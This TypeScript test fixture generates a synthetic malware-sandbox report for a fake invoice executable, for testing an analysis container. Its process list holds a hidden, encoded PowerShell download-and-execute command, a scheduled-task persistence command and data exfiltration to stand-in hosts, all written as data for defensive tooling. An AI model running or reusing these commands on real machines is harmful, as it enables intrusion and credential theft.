import type {
  Call,
  CallList,
  DroppedFile,
  LedgerRow,
  Match,
  Process,
  ProcessNode,
  Results,
} from '../../src/plugin/container.ts';

/** Calls made up as they are asked for: any number of them takes no memory, and the same id is always the same call. */
export class GeneratedCalls implements CallList {
  readonly length: number;
  readonly #make: (id: number) => Call;

  constructor(length: number, make: (id: number) => Call) {
    this.length = length;
    this.#make = make;
  }

  *[Symbol.iterator](): Iterator<Call> {
    for (let id = 0; id < this.length; id++) yield this.#make(id);
  }

  at(index: number): Call | undefined {
    const id = index < 0 ? this.length + index : index;
    return id >= 0 && id < this.length ? this.#make(id) : undefined;
  }

  slice(start = 0, end = this.length): Call[] {
    const from = start < 0 ? Math.max(0, this.length + start) : start;
    const to = Math.min(this.length, end < 0 ? this.length + end : end);
    const calls: Call[] = [];
    for (let id = from; id < to; id++) calls.push(this.#make(id));
    return calls;
  }

  *ofApi(...names: string[]): Iterable<Call> {
    for (const call of this) if (names.includes(call.api)) yield call;
  }

  toJSON(): Call[] {
    return this.slice();
  }
}

/** Calls given as a list. */
export function callList(calls: readonly Call[]): CallList {
  return new GeneratedCalls(calls.length, (id) => calls[id]!);
}

type Shape = [api: string, category: string, args: (n: number) => [string, string | number][]];

const SHAPES: readonly Shape[] = [
  [
    'NtCreateFile',
    'file',
    (n) => [
      ['filepath', String.raw`C:\Users\lena\AppData\Local\Temp\~tmp${n % 97}.dat`],
      ['desired_access', '0x80100080'],
      ['create_disposition', 1],
    ],
  ],
  [
    'NtReadFile',
    'file',
    (n) => [
      ['file_handle', `0x${(0x100 + (n % 60) * 4).toString(16)}`],
      ['length', (n * 37) % 65_536],
      ['offset', n * 512],
    ],
  ],
  [
    'RegOpenKeyExW',
    'registry',
    (n) => [
      ['base_handle', '0x80000001'],
      ['regkey', String.raw`HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Explorer\Part${n % 41}`],
    ],
  ],
  [
    'RegQueryValueExW',
    'registry',
    (n) => [
      ['key_handle', `0x${(0x200 + (n % 90) * 4).toString(16)}`],
      ['value', ['Cache', 'Personal', 'Desktop', 'AppData'][n % 4]!],
      ['reg_type', 1],
    ],
  ],
  [
    'LdrGetProcedureAddress',
    'system',
    (n) => [
      ['module', 'kernel32.dll'],
      ['function_name', ['VirtualAlloc', 'CreateThread', 'WriteFile', 'IsDebuggerPresent'][n % 4]!],
    ],
  ],
  [
    'NtAllocateVirtualMemory',
    'process',
    (n) => [
      ['process_identifier', 2388],
      ['region_size', 4096 * (1 + (n % 16))],
      ['protection', 64],
    ],
  ],
  [
    'InternetConnectA',
    'network',
    () => [
      ['hostname', 'stage.delivery.example'],
      ['port', 443],
    ],
  ],
  ['GetSystemTimeAsFileTime', 'synchronisation', () => []],
  ['NtDelayExecution', 'synchronisation', (n) => [['milliseconds', (n % 7) * 100]]],
  [
    'CryptEncrypt',
    'crypto',
    (n) => [
      ['crypto_handle', '0x005a1b40'],
      ['buffer', `user=lena&pass=${(n * 2_654_435_761) % 1_000_003}`],
    ],
  ],
];

const START = ((9 * 60 + 14) * 60 + 7) * 1000 + 120;

/** `YYYY-MM-DD HH:MM:SS,mmm`, so many milliseconds after the fixture's first process; good for half a day. */
export function stamp(ms: number): string {
  const at = START + ms;
  const two = (value: number) => String(Math.floor(value)).padStart(2, '0');
  const clock = `${two(at / 3_600_000)}:${two((at / 60_000) % 60)}:${two((at / 1000) % 60)}`;
  return `2026-11-03 ${clock},${String(at % 1000).padStart(3, '0')}`;
}

/** A call that looks like a monitor's; nothing in it is random. */
export function sampleCall(id: number, thread = 2392, startMs = 0): Call {
  const mixed = Math.imul(id + 1, 2_654_435_761) >>> 0;
  const [api, category, args] = SHAPES[mixed % SHAPES.length]!;
  const failed = mixed % 23 === 0;
  return {
    id,
    timestamp: stamp(startMs + Math.floor(id * 1.7)),
    thread_id: thread + (mixed % 3) * 4,
    category,
    api,
    status: failed ? 'FAILURE' : 'SUCCESS',
    return: failed ? '0xc0000034' : '0x00000000',
    arguments: args(id).map(([name, value]) => ({
      name,
      value,
      ...(name === 'protection' ? { pretty_value: 'PAGE_EXECUTE_READWRITE' } : {}),
    })),
    repeated: mixed % 57 === 0 ? mixed % 9 : 0,
    ...(failed ? { nt_status: -1073741772, last_error: 2 } : {}),
  };
}

interface Spec {
  pid: number;
  parent: number;
  name: string;
  command: string;
  ms: number;
  share: number;
}

const PROCESSES: readonly Spec[] = [
  {
    pid: 2388,
    parent: 1648,
    name: 'Rechnung_11-2026.exe',
    command: String.raw`"C:\Users\lena\AppData\Local\Temp\Rechnung_11-2026.exe"`,
    ms: 0,
    share: 0.4,
  },
  {
    pid: 2612,
    parent: 2388,
    name: 'cmd.exe',
    command: String.raw`C:\Windows\System32\cmd.exe /c start /min powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AcwB0AGEAZwBlAC4AZABlAGwAaQB2AGUAcgB5AC4AZQB4AGEAbQBwAGwAZQAvAGEAJwApAA==`,
    ms: 1_840,
    share: 0.01,
  },
  {
    pid: 2740,
    parent: 2612,
    name: 'powershell.exe',
    command: `powershell -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://stage.delivery.example/a')"`,
    ms: 2_106,
    share: 0.25,
  },
  {
    pid: 3012,
    parent: 2740,
    name: 'RegAsm.exe',
    command: String.raw`C:\Windows\Microsoft.NET\Framework\v4.0.30319\RegAsm.exe`,
    ms: 6_733,
    share: 0.3,
  },
  {
    pid: 3100,
    parent: 3012,
    name: 'schtasks.exe',
    command: String.raw`schtasks /create /tn "Updates\Zentrale" /tr "C:\Users\lena\AppData\Roaming\zentrale.exe" /sc onlogon`,
    ms: 9_020,
    share: 0.01,
  },
  {
    pid: 2660,
    parent: 2388,
    name: 'AcroRd32.exe',
    command: String.raw`"C:\Program Files\Adobe\Reader 11.0\Reader\AcroRd32.exe" "C:\Users\lena\AppData\Local\Temp\Rechnung.pdf"`,
    ms: 2_420,
    share: 0.02,
  },
  {
    pid: 520,
    parent: 388,
    name: 'services.exe',
    command: String.raw`C:\Windows\system32\services.exe`,
    ms: 11_300,
    share: 0.01,
  },
];

function fixtureProcesses(calls: number): Process[] {
  return PROCESSES.map((spec) => ({
    process_id: spec.pid,
    process_name: spec.name,
    parent_id: spec.parent,
    first_seen: stamp(spec.ms),
    process_path: spec.command.replace(/^"([^"]*)".*$/, '$1').split(' /')[0]!,
    command_line: spec.command,
    calls: new GeneratedCalls(Math.max(1, Math.round(calls * spec.share)), (id) =>
      sampleCall(id, spec.pid + 4, spec.ms),
    ),
  }));
}

function fixtureTree(): ProcessNode[] {
  const node = (pid: number): ProcessNode => {
    const spec = PROCESSES.find((one) => one.pid === pid)!;
    const children = PROCESSES.filter((one) => one.parent === pid).map((one) => node(one.pid));
    return {
      name: spec.name,
      pid,
      parent_id: spec.parent,
      children,
      command_line: spec.command,
      first_seen: stamp(spec.ms),
    };
  };
  const roots = [node(2388), node(520)];
  roots[0]!.children.push({ name: 'WerFault.exe', pid: 2900, parent_id: 2388, children: [], track: false });
  return roots;
}

const RUN_KEY = String.raw`HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run\Zentrale`;
const DROPPED = String.raw`C:\Users\lena\AppData\Roaming\zentrale.exe`;

function fixtureMatches(): Match[] {
  const match = (fields: Partial<Match>): Match => ({
    severity: 2,
    description: '',
    alert: false,
    references: [],
    data: [],
    name: '',
    confidence: 90,
    ...fields,
  });
  return [
    match({
      name: 'injection_hollow_regasm',
      description: 'Replaces the code of a process it started',
      severity: 3,
      confidence: 95,
      alert: true,
      categories: ['injection'],
      ttps: ['T1055.012'],
      references: ['https://attack.mitre.org/techniques/T1055/012/'],
      data: [
        { type: 'call', pid: 2740, cid: 311 },
        { type: 'call', pid: 2740, cid: 318 },
        { type: 'call', pid: 2740, cid: 340 },
      ],
    }),
    match({
      name: 'stealer_browser_credentials',
      description: 'Reads where browsers keep passwords',
      severity: 3,
      categories: ['stealer', 'credentials'],
      families: ['AgentTesla'],
      ttps: ['T1555.003'],
      data: [
        'Chrome\\User Data\\Default\\Login Data',
        'Mozilla\\Firefox\\profiles.ini',
        'Opera\\Login Data',
        'Vivaldi\\Login Data',
      ].map((file) => ({ pid: 3012, api: 'NtCreateFile', file: `C:\\Users\\lena\\AppData\\Local\\${file}` })),
    }),
    match({
      name: 'persistence_autorun',
      description: 'Starts itself with Windows',
      severity: 3,
      confidence: 80,
      ttps: ['T1547.001', 'T1053.005'],
      categories: ['persistence'],
      data: [
        { pid: 3012, api: 'RegSetValueExW', regkey: RUN_KEY, value: DROPPED },
        { pid: 3100, api: 'CreateProcessInternalW', regkey: 'Updates\\Zentrale', value: DROPPED },
      ],
    }),
    match({
      name: 'network_http_download',
      description: 'Downloads over HTTP with PowerShell',
      severity: 2,
      ttps: ['T1105', 'T1059.001'],
      data: [{ pid: 2740, url: 'http://stage.delivery.example/a', host: 'stage.delivery.example', ip: '203.0.113.77' }],
    }),
    match({
      name: 'antidebug_delay',
      description: 'Sleeps for a long time',
      severity: 1,
      confidence: 60,
      data: [{ pid: 2388, seconds: 312 }],
    }),
    match({
      name: 'office_lure_document',
      description: 'Opens a decoy document',
      severity: 1,
      confidence: 70,
      data: [{ pid: 2660, file: String.raw`C:\Users\lena\AppData\Local\Temp\Rechnung.pdf` }],
    }),
    match({
      name: 'static_packed',
      description: 'Has a section with the entropy of packed code',
      severity: 2,
      data: [{ section: '.text', entropy: 7.97 }],
    }),
  ];
}

function fixtureLedger(matches: readonly Match[]): LedgerRow[] {
  const rows = matches.map((match) => ({
    signature: match.name,
    description: match.description,
    severity: match.severity,
    confidence: match.confidence!,
    points: Math.round((match.severity ** 2 / 3) * match.confidence!) / 100,
  }));
  return [
    ...rows,
    {
      signature: 'allow_decoy',
      description: 'The decoy document is known and harmless',
      severity: 1,
      confidence: 100,
      points: -0.5,
    },
  ];
}

function hash(seed: number, length: number): string {
  let text = '';
  for (let i = 0; text.length < length; i++)
    text += (Math.imul(seed + i + 1, 2_654_435_761) >>> 0).toString(16).padStart(8, '0');
  return text.slice(0, length);
}

function fileRecord(seed: number, name: string, size: number, type: string): DroppedFile {
  return {
    name,
    size,
    crc32: hash(seed, 8).toUpperCase(),
    md5: hash(seed + 1, 32),
    sha1: hash(seed + 2, 40),
    sha256: hash(seed + 3, 64),
    sha512: hash(seed + 4, 128),
    ssdeep: `${size % 1000}:${hash(seed, 24)}:${hash(seed + 9, 16)}`,
    type,
  };
}

function fixtureSummary() {
  const temp = (name: string) => `C:\\Users\\lena\\AppData\\Local\\Temp\\${name}`;
  const written = [
    DROPPED,
    temp('Rechnung.pdf'),
    temp('~tmp1.dat'),
    String.raw`C:\Users\lena\AppData\Roaming\zentrale.ini`,
  ];
  const opened = Array.from({ length: 140 }, (_, i) => String.raw`C:\Windows\System32\api-ms-win-core-${i}.dll`);
  const keys = Array.from(
    { length: 220 },
    (_, i) =>
      String.raw`HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\part${i}`,
  );
  return {
    files: [...written, ...opened],
    keys: [RUN_KEY, ...keys],
    mutexes: ['Global\\7c0a1f-zentrale', 'Local\\ZonesCounterMutex', 'RasPbFile', 'DBWinMutex'],
    file_written: written,
    file_created: written.slice(0, 2),
    file_deleted: [temp('~tmp1.dat')],
    file_moved: [[temp('~tmp2.dat'), DROPPED]] as [string, string][],
    file_opened: opened,
    file_read: opened.slice(0, 20),
    file_failed: [String.raw`C:\Program Files\VMware\VMware Tools\vmtoolsd.exe`],
    directory_created: [String.raw`C:\Users\lena\AppData\Roaming\Zentrale`],
    regkey_written: [RUN_KEY],
    regkey_read: keys.slice(0, 60),
    regkey_opened: keys,
    mutex: ['Global\\7c0a1f-zentrale'],
    command_line: PROCESSES.map((spec) => spec.command),
    connects_host: ['stage.delivery.example'],
    resolves_host: ['stage.delivery.example', 'mail.exfil.example'],
    fetches_url: ['http://stage.delivery.example/a'],
    dll_loaded: ['kernel32.dll', 'wininet.dll', 'crypt32.dll', 'vaultcli.dll'],
    wmi_query: ['SELECT * FROM Win32_VideoController', 'SELECT * FROM AntiVirusProduct'],
    guid: ['{9ba05972-f6a8-11cf-a442-00a0c90a8f39}'],
  };
}

function fixtureNetwork() {
  return {
    hosts: ['203.0.113.77', '198.51.100.20', '8.8.8.8', '192.168.56.1', '2001:db8:17::5'],
    domains: [
      { domain: 'stage.delivery.example', ip: '203.0.113.77' },
      { domain: 'mail.exfil.example', ip: '198.51.100.20' },
    ],
    dns: [
      { request: 'stage.delivery.example', type: 'A', answers: [{ type: 'A', data: '203.0.113.77' }] },
      { request: 'mail.exfil.example', type: 'A', answers: [{ type: 'A', data: '198.51.100.20' }] },
      { request: 'www.msftncsi.com', type: 'A', answers: [{ type: 'A', data: '192.0.2.9' }] },
    ],
    http: [
      {
        count: 2,
        method: 'GET',
        uri: 'http://stage.delivery.example/a',
        host: 'stage.delivery.example',
        port: 80,
        path: '/a',
        'user-agent': 'Mozilla/5.0 (Windows NT 6.1) PowerShell',
        body: '',
        version: '1.1',
        data: '',
      },
      {
        count: 1,
        method: 'POST',
        uri: 'http://203.0.113.77:8080/gate.php?id=lena',
        host: '203.0.113.77',
        port: 8080,
        body: 'p=ZGF0YQ==',
        path: '/gate.php',
      },
    ],
    tcp: Array.from({ length: 14 }, (_, i) => ({
      src: '192.168.56.101',
      sport: 49_160 + i,
      dst: i % 3 ? '203.0.113.77' : '198.51.100.20',
      dport: i % 3 ? 80 : 587,
      time: 2.1 + i,
    })),
    udp: [{ src: '192.168.56.101', sport: 53_211, dst: '8.8.8.8', dport: 53, time: 2.04 }],
    smtp: [{ dst: '198.51.100.20', raw: 'EHLO WIN-LENA\r\nAUTH login Ym90QGV4ZmlsLmV4YW1wbGU=\r\n' }],
    dead_hosts: [['198.51.100.99', 4443]],
  };
}

/**
 * A container made for tests and for looking at: one story, told by every section. `calls` is how many there are
 * over all processes.
 */
export function fixtureResults({ calls = 5_000 }: { calls?: number } = {}): Results {
  const signatures = fixtureMatches();
  const ledger = fixtureLedger(signatures);
  const sum = ledger.reduce((total, row) => total + row.points, 0);
  const processes = fixtureProcesses(calls);
  const summary = fixtureSummary();
  const sample = fileRecord(
    7,
    'Rechnung_11-2026.exe',
    412_672,
    'PE32 executable (GUI) Intel 80386 Mono/.Net assembly, for MS Windows',
  );
  return {
    info: {
      version: '2.0.7',
      started: '2026-11-03 09:13:58',
      ended: '2026-11-03 09:16:02',
      duration: 124,
      id: 42,
      category: 'file',
      package: 'exe',
      platform: 'windows',
      machine: { name: 'win7x64-3', manager: 'VirtualBox', label: 'win7x64-3' },
      dialect: 'cuckoo-2',
      score: 4.6,
      ovoscope: { version: '0.1.0' },
    },
    target: { category: 'file', file: { ...sample, yara: [{ name: 'dotnet_obfuscated', strings: 3 }] } },
    signatures,
    verdict: {
      score: Math.min(10, sum),
      band: 'malicious',
      reason:
        'Three signatures of high severity matched, and they support each other: injection, credential theft, persistence.',
      ledger,
      sum,
    },
    behavior: {
      processes,
      processtree: fixtureTree(),
      summary,
      generic: [
        {
          pid: 3012,
          ppid: 2740,
          process_name: 'RegAsm.exe',
          process_path: null,
          first_seen: stamp(6_733),
          summary: { file_written: [DROPPED], regkey_written: [RUN_KEY], mutex: ['Global\\7c0a1f-zentrale'] },
        },
        {
          pid: 2388,
          ppid: 1648,
          process_name: 'Rechnung_11-2026.exe',
          process_path: null,
          first_seen: stamp(0),
          summary: { file_written: summary.file_written.slice(1), file_opened: summary.file_opened },
        },
      ],
    },
    network: fixtureNetwork(),
    dropped: [
      {
        ...fileRecord(101, 'zentrale.exe', 412_672, 'PE32 executable (GUI) Intel 80386, for MS Windows'),
        filepath: DROPPED,
        pids: [3012],
      },
      {
        ...fileRecord(201, 'Rechnung.pdf', 48_113, 'PDF document, version 1.4'),
        filepath: summary.file_written[1]!,
        pids: [2388],
      },
      {
        ...fileRecord(301, 'zentrale.ini', 212, 'ASCII text, with CRLF line terminators'),
        filepath: summary.file_written[3]!,
        pids: [3012],
      },
    ],
    static: {
      pe_imphash: hash(55, 32),
      pe_timestamp: '2026-10-29 22:14:51',
      pe_sections: [
        {
          name: '.text',
          virtual_address: '0x00002000',
          virtual_size: '0x00061a00',
          size_of_data: '0x00061a00',
          entropy: 7.97,
        },
        {
          name: '.rsrc',
          virtual_address: '0x00066000',
          virtual_size: '0x00003200',
          size_of_data: '0x00003200',
          entropy: 4.12,
        },
        {
          name: '.reloc',
          virtual_address: '0x0006a000',
          virtual_size: '0x0000000c',
          size_of_data: '0x00000200',
          entropy: 0.1,
        },
      ],
      pe_imports: [{ dll: 'mscoree.dll', imports: [{ address: '0x402000', name: '_CorExeMain' }] }],
      pe_versioninfo: [
        { name: 'CompanyName', value: 'Zentrale Buchhaltung GmbH' },
        { name: 'OriginalFilename', value: 'zentrale.exe' },
      ],
    },
    strings: ['!This program cannot be run in DOS mode.', 'SELECT * FROM logins', 'https://api.ipify.example'],
    screenshots: [{ path: 'shots/0001.jpg' }, { path: 'shots/0002.jpg' }],
    debug: {
      log: '2026-11-03 09:14:01,233 [analyzer] DEBUG: Starting analyzer from: C:\\tmp1a2b\n2026-11-03 09:14:07,001 [lib.api.process] INFO: Executed process with pid 2388\n',
      errors: ['The capture ended before the guest was shut down'],
    },
    problems: [
      {
        code: 'CALLS_TRUNCATED',
        message:
          'logs/3012.bson ends in the middle of a record: an argument at byte 8113204, and the file has 8113210 bytes',
        hint: 'The calls before it were kept; the guest or the upload was probably cut off.',
        where: { module: 'behavior', file: 'logs/3012.bson', offset: 8_113_204 },
      },
      {
        code: 'MODULE_FAILED',
        message: 'suricata stopped: no rules were found',
        hint: 'Set suricata.rules in the configuration.',
        where: { module: 'suricata' },
      },
    ],
    statistics: {
      processing: [
        { name: 'behavior', state: 'done', ms: 812.4 },
        { name: 'network', state: 'done', ms: 120.2 },
        { name: 'suricata', state: 'failed', ms: 3.1 },
        { name: 'memory', state: 'skipped', ms: 0 },
      ],
      signatures: signatures.map((match, i) => ({ name: match.name, state: 'done' as const, ms: i * 1.3 })),
    },
  };
}

/** What an analysis without anything in it gives. */
export function emptyResults(): Results {
  return {};
}

/**
 * A copy of a container in which every string, and every key that the sample can choose, carries the canary.
 * `canary` gets the path of the place, so that a failing test can say which one it was.
 */
export function canaryResults(results: Results, canary: (path: string, text: string) => string): Results {
  return replaceStrings(results, '', canary) as Results;
}

/** Fields that only the engine writes, from a fixed set. */
const OWN_WORDS = new Set(['band', 'state', 'status', 'timestamp', 'first_seen', 'started', 'ended', 'dialect']);
/** Objects whose keys come from the analysis. */
const OPEN_KEYS = new Set(['static', 'data', 'network', 'machine', 'environ', 'flags', 'file', 'where']);

function replaceStrings(value: unknown, path: string, canary: (path: string, text: string) => string): unknown {
  const name = path.slice(path.lastIndexOf('.') + 1);
  if (typeof value === 'string') return OWN_WORDS.has(name) ? value : canary(path, value);
  if (value instanceof GeneratedCalls) {
    const list = value;
    return new GeneratedCalls(list.length, (id) => replaceStrings(list.at(id), `${path}.${id}`, canary) as Call);
  }
  if (Array.isArray(value)) return value.map((item, i) => replaceStrings(item, `${path}[${i}]`, canary));
  if (typeof value !== 'object' || value === null) return value;
  const open = OPEN_KEYS.has(name.replace(/\[\d+\]$/, ''));
  const copy: { [key: string]: unknown } = {};
  for (const [key, inner] of Object.entries(value)) {
    copy[key] = replaceStrings(inner, `${path}.${key}`, canary);
    if (open) copy[canary(`${path}.${key}#`, key)] = copy[key];
  }
  return copy;
}
